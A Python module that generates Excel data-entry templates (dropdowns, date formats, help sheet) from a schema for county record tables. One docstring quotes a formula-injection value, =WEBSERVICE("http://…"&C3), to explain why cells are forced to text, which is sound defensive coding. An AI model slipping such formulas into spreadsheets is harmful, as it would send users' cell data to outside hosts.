"""Excel templates: one workbook per table, made from the schema and the current choices.

The first sheet is the table itself (Chinese headers, a dropdown for every enum, yes/no
and reference column, dates as dates, frozen header); 填表说明 explains each column from
the schema's help; a hidden sheet holds the dropdown lists. With the current records
filled in, a county can keep working in the workbook and commit it back: `.xlsx` is read
wherever CSV is, and only the first sheet is the data.
"""
from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

from generator import load
from generator.problems import messages
from generator.records import Dataset
from generator.schema import Field, RecordType, record_types

DATA_SHEET_ROWS = 1000  # rows below the header that get the dropdowns and formats
_WIDTHS = {"date": 12, "period": 10, "int": 10, "bool": 9, "enum": 12, "id": 12}


def table_types() -> list[RecordType]:
    return [rt for rt in record_types().values() if rt.shape == "table"]


def choices(data: Dataset) -> dict[str, list[str]]:
    """What a reference column may hold, by collection, as staff know them (names)."""
    out: dict[str, list[str]] = {}
    taxonomy = record_types()["taxonomy"]
    for name, f in taxonomy.fields.items():
        if f.type != "list" or f.item is None or "name" not in f.item.fields:
            continue
        names: list[str] = []
        for entry in data.taxonomy.get(name) or []:
            children = entry.get("children") or []
            names += [c["name"] for c in children if c.get("name")]
            if not children and entry.get("name"):
                names.append(entry["name"])
        out[name] = names
    for rt in record_types().values():
        if rt.collection and rt.collection not in out:
            label_field = "name" if "name" in rt.fields else "title" if "title" in rt.fields \
                else rt.id
            # published records only: the editor's config is served with the site
            out[rt.collection] = [str(r.get(label_field) or r.get(rt.id) or "")
                                  for r in data.collections.get(rt.collection, [])
                                  if label_field and r.get(label_field) and r.published]
    return out


def _names_by_key(data: Dataset) -> dict[str, dict[str, str]]:
    """id -> the name shown in the dropdown, per collection (to fill in current rows)."""
    out: dict[str, dict[str, str]] = {}
    for name in record_types()["taxonomy"].fields:
        known: dict[str, str] = {}
        for entry in data.taxonomy.get(name) or []:
            if not isinstance(entry, dict):
                continue
            for item in [entry, *(entry.get("children") or [])]:
                if item.get("id") and item.get("name"):
                    known[item["id"]] = item["name"]
        out[name] = known
    for rt in record_types().values():
        if rt.collection and rt.id and rt.collection not in out:
            label_field = "name" if "name" in rt.fields else "title" if "title" in rt.fields \
                else ""
            out[rt.collection] = {r[rt.id]: r[label_field] for r in
                                  data.collections.get(rt.collection, [])
                                  if label_field and r.get(rt.id) and r.get(label_field)}
    return out


def _options(f: Field, lists: dict[str, list[str]]) -> list[str] | None:
    target = f.item if f.type == "list" and f.item is not None else f
    if target.type == "enum":
        return list(target.values)
    if target.type == "bool":
        return list(messages()["workbook"]["bool_choices"])
    if target.type == "ref":
        return lists.get(target.to, [])
    return None


def template(rtype: RecordType, data: Dataset, rows: list[dict[str, object]] = ()):
    """An openpyxl workbook for one table type, optionally holding rows (field -> value)."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter, quote_sheetname
    from openpyxl.worksheet.datavalidation import DataValidation

    text = messages()["workbook"]
    type_names = messages()["types"]
    lists = choices(data)
    book = Workbook()
    sheet = book.active
    sheet.title = rtype.label
    options_sheet = book.create_sheet(text["options_sheet"])
    options_sheet.sheet_state = "hidden"
    help_sheet = book.create_sheet(text["help_sheet"])
    fields = list(rtype.fields.values())
    last = DATA_SHEET_ROWS + 1 + len(rows)
    bold = Font(bold=True)
    for column, f in enumerate(fields, start=1):
        letter = get_column_letter(column)
        cell = sheet.cell(1, column, f.label or f.name)
        cell.font = bold
        cell.fill = PatternFill("solid", fgColor="FFE8E0" if f.required else "EEEEEE")
        cell.alignment = Alignment(horizontal="center")
        width = _WIDTHS.get(f.type, max(14, min(40, len(f.help) + 4)))
        sheet.column_dimensions[letter].width = max(width, 2 * len(f.label) + 4)
        number_format = "yyyy-mm-dd" if f.type == "date" else "@"
        for row in range(2, last + 1):
            sheet.cell(row, column).number_format = number_format
        area = f"{letter}2:{letter}{last}"
        options = _options(f, lists)
        if options is not None:
            options_sheet.cell(1, column, f.label or f.name)
            for index, value in enumerate(options, start=2):
                _as_text(options_sheet.cell(index, column, value)).number_format = "@"
            end = max(2, len(options) + 1)
            source = f"={quote_sheetname(text['options_sheet'])}!${letter}$2:${letter}${end}"
            multiple = f.type == "list"
            rule = DataValidation(type="list", formula1=source, allow_blank=True,
                                  showErrorMessage=not multiple,
                                  errorTitle=text["error_title"],
                                  error=text["error_choice"],
                                  promptTitle=f.label, showInputMessage=True,
                                  prompt=(text["prompt_multiple"] if multiple else f.help)[:250])
            rule.add(area)
            sheet.add_data_validation(rule)
        elif f.type == "date":
            rule = DataValidation(type="date", operator="greaterThan", formula1="1",
                                  allow_blank=True, showErrorMessage=True,
                                  errorTitle=text["error_title"], error=text["error_date"],
                                  promptTitle=f.label, prompt=f.help[:250],
                                  showInputMessage=True)
            rule.add(area)
            sheet.add_data_validation(rule)
        elif f.type == "int":
            rule = DataValidation(type="whole", operator="greaterThanOrEqual", formula1="0",
                                  allow_blank=True, showErrorMessage=True,
                                  errorTitle=text["error_title"], error=text["error_int"])
            rule.add(area)
            sheet.add_data_validation(rule)
    for number, values in enumerate(rows, start=2):
        for column, f in enumerate(fields, start=1):
            value = values.get(f.name, "")
            if value not in ("", None):
                _as_text(sheet.cell(number, column, value))
    sheet.freeze_panes = "A2"
    # The same records give the same bytes: no wall-clock time in the properties.
    book.properties.created = data.now.astimezone(dt.timezone.utc).replace(tzinfo=None)
    help_sheet.append([text["help_intro"].format(label=rtype.label)])
    help_sheet.append([])
    help_sheet.append(text["help_columns"])
    for cell in help_sheet[3]:
        cell.font = bold
    for f in fields:
        options = _options(f, lists)
        allowed = "、".join(options[:30]) + ("……" if options and len(options) > 30 else "") \
            if options else ""
        kind = type_names[f.type] if f.item is None else \
            f"{type_names['list']}（{type_names[f.item.type]}）"
        help_sheet.append([f.label or f.name, f.name, text["required"] if f.required else "",
                           kind, f.help, allowed])
        for cell in help_sheet[help_sheet.max_row]:
            _as_text(cell)
    for letter, width in zip("ABCDEF", (16, 16, 8, 12, 50, 50), strict=True):
        help_sheet.column_dimensions[letter].width = width
    return book


def _as_text(cell):
    """The cell holding its value as text: openpyxl stores a text beginning with "=" as a
    formula, and a record's text (a ledger problem written =WEBSERVICE("http://…"&C3),
    a unit named =HYPERLINK(…)) would run in the clerk's Excel when the template opens,
    sending the sheet's cells elsewhere."""
    if cell.data_type == "f":
        cell.data_type = "s"
    return cell


def _cell_value(f: Field, raw: str, names: dict[str, dict[str, str]]):
    """A current cell as the template holds it: dates as dates, references by name."""
    raw = load.clean_cell(raw)
    if not raw:
        return ""
    if f.type == "date":
        try:
            return dt.date.fromisoformat(raw)
        except ValueError:
            return raw
    target = f.item if f.type == "list" and f.item is not None else f
    if target.type == "ref":
        known = names.get(target.to, {})
        if f.type == "list":
            return "、".join(known.get(p, p) for p in _list_parts(raw))
        return known.get(raw, raw)
    return raw


def _list_parts(raw: str) -> list[str]:
    return [p for p in re.split(r"\s*[、,，;；]\s*", raw.strip()) if p]


def _deterministic(book, now: dt.datetime) -> bytes:
    """The workbook's bytes with every zip member stamped with the build time, not the clock."""
    import io
    import zipfile

    raw = io.BytesIO()
    book.save(raw)
    out = io.BytesIO()
    stamp = now.timetuple()[:6]
    now = now.astimezone(dt.timezone.utc)
    with zipfile.ZipFile(raw) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the clock on save
                content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*",
                                 rb"\g<1>" + now.strftime("%Y-%m-%dT%H:%M:%SZ").encode(),
                                 content)
            dest.writestr(zipfile.ZipInfo(info.filename, stamp), content,
                          compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def write_templates(root: Path, data: Dataset, out: Path, with_data: bool = False) -> list[Path]:
    """Write one workbook per table under `out`, laid out as under data/; return the paths.

    With data, each current table file becomes a workbook of the same name (its rows,
    references by name, dates as dates); without, a blank template per table."""
    names = _names_by_key(data)
    written: list[Path] = []
    for rtype in table_types():
        pattern = next(p for p in rtype.files if p.endswith(".xlsx"))
        folder = Path(pattern).parent.relative_to("data")
        files = load.files_of(root, rtype) if with_data else []
        jobs: list[tuple[str, list[dict]]] = []
        for rel in files:
            raws, _problems = load.load_file(root, rel, rtype)
            rows = [{k: _cell_value(rtype.fields[k], v, names) for k, v in raw.data.items()
                     if k in rtype.fields and isinstance(v, str)} for raw in raws]
            jobs.append((Path(rel).stem, rows))
        if not jobs:
            stem = Path(pattern).stem
            jobs = [(rtype.label if "*" in stem else stem, [])]
        for stem, rows in jobs:
            target = out / folder / f"{stem}.xlsx"
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(_deterministic(template(rtype, data, rows), data.now))
            written.append(target)
    return written
